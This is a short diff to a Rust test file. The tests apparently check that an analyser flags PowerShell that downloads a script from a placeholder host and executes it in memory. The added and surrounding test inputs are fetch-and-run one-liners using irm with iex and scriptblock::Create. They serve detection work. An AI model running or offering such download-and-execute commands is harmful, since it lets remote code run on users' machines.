@@ -46,6 +46,8 @@ fn code_that_is_never_a_file() {
         powershell("$u = 'https://a.example/x.ps1'\nif ($a) { $s = irm $u }\niex $s"),
         direct
     );
+    assert_eq!(powershell("irm https://a.example/x.ps1 | ForEach-Object { iex $_ }"), direct);
+    assert_eq!(powershell(". { irm https://a.example/x.ps1 } | iex"), direct);
     assert_eq!(
         powershell("& ([scriptblock]::Create((irm https://a.example/x.ps1))) -Quiet"),
         ["WebRequest https://a.example/x.ps1: evaluated by create"]
